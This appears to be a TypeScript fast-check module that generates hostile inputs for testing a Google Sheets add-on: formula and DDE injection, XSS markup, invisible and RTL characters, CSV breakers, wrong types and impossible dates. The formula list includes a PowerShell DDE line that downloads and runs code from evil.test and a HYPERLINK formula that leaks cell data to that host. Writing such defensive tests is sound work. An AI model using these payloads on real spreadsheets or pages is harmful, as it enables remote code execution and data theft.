/**
 * Hostile input for the property suite: one fixed seed for every property (set here, so a failure names a run anyone
 * can replay), and arbitraries for formula injection, HTML and script, invisible and RTL characters, over-long
 * cells, wrong types, impossible dates and CSV breakers.
 */
import fc from 'fast-check';

/**
 * CI always runs this seed. A local hunt: `PROPERTY_SEED=7 PROPERTY_RUNS=300 npx vitest run test/property` (every
 * property scales with PROPERTY_RUNS); a failure prints its seed and shrunk counterexample, kept then as an
 * explicit example in regressions.test.ts or core-regressions.test.ts.
 */
export const SEED = Number(process.env.PROPERTY_SEED ?? 16_0316);
/** Default runs a property; the bundle-driven ones pass fewer (each run is a full save through the emulator). */
export const RUNS = Number(process.env.PROPERTY_RUNS ?? 60);

fc.configureGlobal({ seed: SEED, numRuns: RUNS, endOnFailure: false });

/** Runs for a property that drives the bundle: a share of RUNS (at least 10). */
export const bundleRuns = (share = 0.5): number => Math.max(10, Math.round(RUNS * share));

/** A Google Sheets cell holds at most this many characters. */
export const CELL_CHARS = 50_000;

const FORMULA_PREFIXES = ['=', '+', '-', '@', ' =', '  +', '\t=', '\r=', '\n=', '＝', '﹦', '＋', '\u200b=', '\ufeff='];
const FORMULA_BODIES = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.test/?leak="&A2,"Click for refund")',
  'IMPORTXML("http://evil.test/x","//a")',
  'IMPORTRANGE("1AbC","Tickets!A:Z")',
  "cmd|'/c calc'!A1",
  "cmd|' /C powershell IEX(wget evil.test)'!A0",
  'IMAGE("http://evil.test/p.png")',
  'A1',
  '#REF!',
  '2+3*4',
  'NOW()',
];

/** Strings Sheets (or Excel, or a CSV reader) would take for a formula or a DDE call. */
export const formulaText = fc.tuple(fc.constantFrom(...FORMULA_PREFIXES), fc.constantFrom(...FORMULA_BODIES)).map(([p, b]) => p + b);

/** Markup that must never run or render: script tags, event handlers, javascript: URLs, attribute breakers. */
export const htmlText = fc.constantFrom(
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload=window.__pwned=1>',
  'javascript:window.__pwned=1',
  '"\'><img src=x onerror=window.__pwned=1>',
  '</textarea></div><b>bold</b>',
  '<a href="javascript:alert(1)">refund</a>',
  '&lt;b&gt;&amp;&quot;',
  '<!--',
  ']]>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
);

/** Invisible, bidirectional and multi-unit characters: RTL override, zero-width, BOM, combining marks, emoji. */
export const unicodeText = fc.constantFrom(
  '\u202eevil.exe\u202c',
  'a\u200bb\u200cc\u200dd',
  '\ufeffBOM',
  'e\u0301\u0301\u0301',
  '👨‍👩‍👧‍👦🇲🇾😀',
  '𝕳𝖊𝖑𝖑𝖔',
  'مرحبا بالعالم',
  '退货退款 · 破损',
  'ข้อความภาษาไทย',
  '\u2028\u2029',
  'Z̴̡̛a̸l̷g̶o̵',
);

/** Characters that break a CSV line or its cells: quotes, both delimiters, newlines, a BOM. */
export const csvBreaker = fc.constantFrom('"', '""', ',', ';', '\n', '\r\n', '\r', '\ufeff', '"a,b"', 'a";"b', '\t');

/** Ordinary customer words, so hostile pieces sit inside realistic text. */
const plainWord = fc.constantFrom('mug', 'broken', 'refund please', 'Order 260101ABC', '000123', '1e5', '2026-11-16', 'TRUE', '12:30', '50%', 'Nur', 'O\'Brien');

/** A piece of hostile or ordinary text. */
export const hostilePiece = fc.oneof(
  { weight: 3, arbitrary: formulaText },
  { weight: 3, arbitrary: htmlText },
  { weight: 2, arbitrary: unicodeText },
  { weight: 1, arbitrary: csvBreaker },
  { weight: 2, arbitrary: plainWord },
  { weight: 2, arbitrary: fc.string({ maxLength: 12, unit: 'grapheme' }) },
);

/** Text built from hostile pieces (may start with a formula prefix, contain markup, be empty). */
export const hostileText = (maxPieces = 4) => fc.array(hostilePiece, { minLength: 0, maxLength: maxPieces }).map((p) => p.join(' '));

/** Text around a cell's limit: just under, exactly at, just over and far over 50,000 characters. */
export const longText = fc
  .tuple(fc.constantFrom(44_999, 45_000, 45_001, CELL_CHARS, CELL_CHARS + 1, 60_000, 200_000), formulaText, fc.constantFrom('a', '破', '😀', ' '))
  .map(([n, head, fill]) => (head + fill.repeat(n)).slice(0, n));

/** Values of the wrong type where a string is expected (all JSON-able, as google.script.run and the CLI pass). */
export const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(NaN, Infinity, -Infinity, 1e308, -0, 2 ** 53 + 1, 1e15),
  fc.boolean(),
  fc.constant(null),
  fc.constant(undefined),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.constant({ toString: 'x', valueOf: 1 }),
  fc.constant({ __proto__: { polluted: true } }),
);

/** Dates and times that do not exist or are far outside a shop's life. */
export const impossibleDate = fc.constantFrom(
  '2026-02-30', '2026-13-01', '2026-00-10', '2026-11-31', '25:61', '2026-11-16 25:61', '0000-01-01', '-000001-01-01',
  '+275760-09-13T00:00:00Z', '1e15', '2026-11-16T99:00:00Z', '31/12/2026', '2026-1-1 9:5', 'yesterday', '', ' ', 'NaN',
);

/** Any value a careless or hostile caller might put in a string field. */
export const anyField = fc.oneof(
  { weight: 4, arbitrary: hostileText() },
  { weight: 2, arbitrary: wrongType },
  { weight: 1, arbitrary: impossibleDate },
  { weight: 1, arbitrary: longText },
);

/** What the add-on promises to keep of customer text: the words verbatim, minus control characters, trimmed. */
export function storedForm(s: string): string {
  return s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '').trim();
}
